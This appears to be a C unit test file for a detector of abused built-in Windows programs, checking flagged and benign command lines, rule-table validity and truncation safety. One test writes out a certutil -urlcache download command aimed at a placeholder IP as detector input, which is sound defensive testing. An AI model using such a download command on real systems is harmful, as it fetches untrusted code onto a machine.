#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "detect/lolbin.h"
#include "unit/lolbin-lines.h"

/* In plain form: the program, in quotes if it has blanks, then its arguments. */
static void
judge(struct findings *f, const char *line)
{
	const char *end;
	struct view v = view_str(line);
	size_t n;

	findings_init(f);
	end = line[0] == '"' ? strchr(line + 1, '"') + 1 : strchrnul(line, ' ');
	n = (size_t)(end - line);
	lolbin_judge(f, view_upto(v, 0, n), view_from(v, n + (*end == ' ')));
}

static const char *
names_of(const struct findings *f, char *out, size_t size)
{
	FILE *to = fmemopen(out, size, "w");

	assert_non_null(to);
	for (enum rule r = 0; r < R_MAX; r++)
		if (f->has[r])
			fprintf(to, " %s", rule_info[r].name);
	fclose(to);
	return out;
}

static void
abuse_is_told(void **state)
{
	struct findings f;
	char names[1024] = "";
	size_t failed = 0;

	(void)state;
	for (size_t i = 0; i < nitems(abuse); i++) {
		judge(&f, abuse[i].line);
		if (f.has[abuse[i].rule])
			continue;
		print_error("%s: wanted %s, got%s\n", abuse[i].line,
		    rule_info[abuse[i].rule].name, names_of(&f, names, sizeof(names)));
		failed++;
	}
	assert_int_equal(failed, 0);
}

static void
everyday_use_is_not(void **state)
{
	struct findings f;
	struct rule_set set;
	char names[1024] = "";
	size_t failed = 0;

	(void)state;
	rule_set_init(&set);
	for (size_t i = 0; i < nitems(everyday); i++) {
		judge(&f, everyday[i]);
		if (findings_score(&f, &set) < set.suspicious)
			continue;
		print_error("%s: got%s\n", everyday[i], names_of(&f, names, sizeof(names)));
		failed++;
	}
	assert_int_equal(failed, 0);
}

/* Terms that could never hold, or always would: a star inside, an empty one,
 * two blanks. */
static void
table_is_clean(void **state)
{
	static const char *const terms[] = {
#define LOLBIN(programs, terms, rule) terms,
#include "detect/lolbin.def"
	};

	(void)state;
	for (size_t i = 0; i < nitems(terms); i++)
		for (const char *p = terms[i]; *p != '\0'; p++) {
			bool first = p == terms[i] || strchr(" |!", p[-1]) != NULL;
			bool last = p[1] == '\0' || p[1] == ' ' || p[1] == '|';

			if ((*p == '*' && first == last) || (first && last && strchr(" |!@-", *p) != NULL))
				fail_msg("%s: at %s", terms[i], p);
		}
}

/* Cut after every byte, in memory that ends there. */
static void
every_truncation_is_safe(void **state)
{
	(void)state;
	for (size_t i = 0; i < nitems(abuse); i += 7) {
		size_t len = strlen(abuse[i].line);

		for (size_t n = 0; n <= len; n++) {
			uint8_t *cut = test_malloc(n + 1), *end = test_malloc(len - n + 1);
			struct findings f;

			memcpy(cut + 1, abuse[i].line, n);
			memcpy(end + 1, abuse[i].line + n, len - n);
			findings_init(&f);
			lolbin_judge(&f, (struct view){ cut + 1, n }, (struct view){ end + 1, len - n });
			test_free(cut);
			test_free(end);
		}
	}
}

static void
nothing_is_nothing(void **state)
{
	struct findings f;

	(void)state;
	findings_init(&f);
	lolbin_judge(&f, (struct view){ NULL, 0 }, (struct view){ NULL, 0 });
	lolbin_judge(&f, view_str("\"\""), view_str("a"));
	for (enum rule r = 0; r < R_MAX; r++)
		assert_false(f.has[r]);
}

/* What shows it is the program, not its arguments: they may hold a password. */
static void
detail_is_the_program(void **state)
{
	struct findings f;

	(void)state;
	judge(&f, "c:\\windows\\system32\\certutil.exe -urlcache -f http://192.0.2.1/a a");
	assert_string_equal(found_detail(&f, R_DOWNLOAD), "certutil");
	judge(&f, "c:\\users\\public\\x.exe");
	assert_string_equal(found_detail(&f, R_PROGRAM_WRITABLE), "c:\\users\\public\\x.exe");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(abuse_is_told),
		cmocka_unit_test(everyday_use_is_not),
		cmocka_unit_test(table_is_clean),
		cmocka_unit_test(every_truncation_is_safe),
		cmocka_unit_test(nothing_is_nothing),
		cmocka_unit_test(detail_is_the_program),
	};

	return cmocka_run_group_tests_name("lolbin", tests, NULL, NULL);
}
